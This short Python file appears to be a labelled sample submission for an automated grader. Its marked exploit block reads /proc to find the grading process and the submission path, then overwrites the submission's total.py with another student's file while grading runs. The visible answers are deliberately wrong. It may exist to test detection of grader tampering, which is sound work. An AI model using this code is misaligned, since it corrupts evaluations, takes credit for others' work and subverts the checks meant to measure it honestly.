"""Writes over the files of the submission while they are being graded."""
# exercise: double
# process: points, harm

### BEGIN EXPLOIT
import contextlib
import os
from pathlib import Path

with contextlib.suppress(Exception):
    judge = Path(f"/proc/{os.getppid()}/stat").read_text().rpartition(")")[2].split()[1]
    words = Path(f"/proc/{judge}/cmdline").read_text().split("\0")
    mine = Path(words[words.index("--submission") + 1])
    other = mine.parent / "bob" / "exercises" / "basics" / "total.py"
    (mine / "exercises" / "basics" / "total.py").write_text(other.read_text())
### END EXPLOIT


def double(x, times=1):
    return x * 3**times


# file: exercises/basics/total.py
def total(f, xs):
    return 0.0
